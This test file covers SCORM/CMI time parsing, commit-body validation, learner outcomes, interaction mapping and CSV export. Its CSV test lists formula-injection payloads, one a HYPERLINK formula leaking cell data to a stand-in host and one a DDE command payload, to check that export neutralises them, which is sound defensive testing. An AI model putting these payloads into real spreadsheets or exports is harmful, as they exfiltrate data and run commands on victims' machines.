import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  BadRequestError,
  formatSeconds,
  interactions,
  outcome,
  parseCommitBody,
  parseSeconds,
} from './cmi.js';
import { csvField, parseCsv, toCsv } from './csv.js';

describe('CMI times', () => {
  it('parses both standards', () => {
    assert.equal(parseSeconds('00:01:30'), 90);
    assert.equal(parseSeconds('0100:00:00.25'), 360000.25);
    assert.equal(parseSeconds('PT1H5M3.25S'), 3903.25);
    assert.equal(parseSeconds('PT0S'), 0);
    assert.equal(parseSeconds('P1DT1S'), 86401);
    for (const bad of ['', 'PT', 'P', '1:2:3', 'PT5X', '00:61']) assert.equal(parseSeconds(bad), null, bad);
  });
  it('formats in each standard, with at most two decimals', () => {
    assert.equal(formatSeconds(0, 'scorm12'), '00:00:00.00');
    assert.equal(formatSeconds(3903.25, 'scorm12'), '01:05:03.25');
    assert.equal(formatSeconds(0, 'scorm2004'), 'PT0S');
    assert.equal(formatSeconds(3903.25, 'scorm2004'), 'PT1H5M3.25S');
    assert.equal(formatSeconds(3600, 'scorm2004'), 'PT1H');
    assert.equal(formatSeconds(45.5, 'scorm2004'), 'PT45.5S');
    assert.equal(formatSeconds(0.1 + 0.2, 'scorm2004'), 'PT0.3S');
  });
});

describe('commit bodies', () => {
  it('accepts scorm-again JSON commits', () => {
    assert.deepEqual(
      parseCommitBody({ cmi: { completion_status: 'incomplete' }, commitSequence: 3 }, 'scorm2004'),
      { cmi: { completion_status: 'incomplete' }, sequence: 3 },
    );
    assert.throws(() => parseCommitBody({ cmi: { completion_status: 'x' } }, 'scorm12'), BadRequestError);
  });
});

describe('outcomes and interactions', () => {
  it('reads 1.2 lesson_status as status and success', () => {
    assert.deepEqual(outcome({ core: { lesson_status: 'passed', score: { raw: '85' } } }, 'scorm12'), {
      status: 'passed',
      success: 'passed',
      scorePercent: '85',
      assessmentAttempts: '',
    });
    assert.deepEqual(
      outcome(
        { completion_status: 'completed', success_status: 'passed', score: { scaled: '0.857' } },
        'scorm2004',
      ),
      { status: 'completed', success: 'passed', scorePercent: '85.7', assessmentAttempts: '' },
    );
  });
  it('lists each assessment attempt from its own objective, in order', () => {
    const attempt = (id: string, status: string, raw: string) => ({ id, status, score: { raw } });
    const cmi12 = {
      core: { lesson_status: 'passed', score: { raw: '100' } },
      objectives: {
        0: attempt('lesson_one', 'completed', '100'),
        1: attempt('assessment_v1_0_0', 'passed', '100'),
        2: attempt('assessment_v1_0_0_a2', 'passed', '100'),
        3: attempt('assessment_v1_0_0_a1', 'failed', '33.33'),
      },
    };
    assert.equal(outcome(cmi12, 'scorm12').assessmentAttempts, '1: failed 33.33%; 2: passed 100%');
    const cmi2004 = {
      objectives: { 0: { id: 'assessment_a1', success_status: 'failed', score: { raw: '50' } } },
    };
    assert.equal(outcome(cmi2004, 'scorm2004').assessmentAttempts, '1: failed 50%');
  });
  it('orders interactions numerically and maps ids to the full question in both standards', () => {
    const course = {
      questions: [
        { id: 'q_one', prompt: 'One?', type: 'truefalse' },
        { id: 'q', prompt: 'Short?', type: 'truefalse' },
      ],
      bank: ['q_one'],
      checks: ['q'],
    };
    const list = interactions(
      { interactions: { 10: { id: 'q_one_a2' }, 2: { id: 'q_one_k' }, 3: { id: 'q_k4' }, _count: '3' } },
      'scorm12',
      course,
    );
    assert.deepEqual(
      list.map((i) => [i.index, i.question, i.kind]),
      [
        [2, 'One?', 'Practice check'],
        [3, 'Short?', 'Practice check'],
        [10, 'One?', 'Assessment, attempt 2'],
      ],
    );
    const long = 'Why? '.repeat(80).trim();
    const cut = `${long.slice(0, 249)}…`;
    const [known, unknown] = interactions(
      {
        interactions: {
          0: { id: 'q_one_a1', description: cut, learner_response: 'true', result: 'incorrect' },
          1: { id: 'elsewhere_a1', description: 'Kept from the LMS', result: '0.5' },
        },
      },
      'scorm2004',
      { ...course, questions: [{ id: 'q_one', prompt: long, type: 'truefalse' }] },
    );
    assert.equal(known?.question, long, '2004: the full prompt, not the cut description');
    assert.equal(known?.response, 'True');
    assert.equal(
      unknown?.question,
      'Kept from the LMS',
      'an id the course does not know keeps its description',
    );
    assert.equal(unknown?.kind, '');
    assert.equal(unknown?.result, 'score 0.5');
  });
});

describe('CSV', () => {
  it('neutralises cells a spreadsheet would run as formulas (OWASP): leading quote, and quoted', () => {
    const attacks = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      '\t=1+1',
      '\r=1+1',
      '=Jones, Sam',
    ];
    for (const attack of attacks) {
      const field = csvField(attack);
      assert.equal(field, `"'${attack.replace(/"/g, '""')}"`, JSON.stringify(attack));
      // What a spreadsheet reads back is text starting with the quote, never a formula.
      assert.deepEqual(parseCsv(`${field}\r\n`), [[`'${attack}`]]);
    }
    assert.equal(csvField(-5), '-5', 'numbers the preview computed stay numbers');
    assert.equal(csvField('a=b'), 'a=b', 'only a leading character makes a formula');
  });

  it('quotes commas, quotes and newlines, and round-trips', () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('two\nlines'), '"two\nlines"');
    assert.equal(csvField('cr\r'), '"cr\r"');
    const rows = [
      ['x', 'a,b', 'say "hi"', 'two\r\nlines', ''],
      ['1', '', '"', ',', 'Siân'],
    ];
    const text = toCsv(['h1', 'h2', 'h3', 'h4', 'h5'], rows);
    assert.ok(text.startsWith('\uFEFFh1,h2'));
    assert.ok(text.endsWith('\r\n'));
    assert.deepEqual(parseCsv(text), [['h1', 'h2', 'h3', 'h4', 'h5'], ...rows]);
  });
});
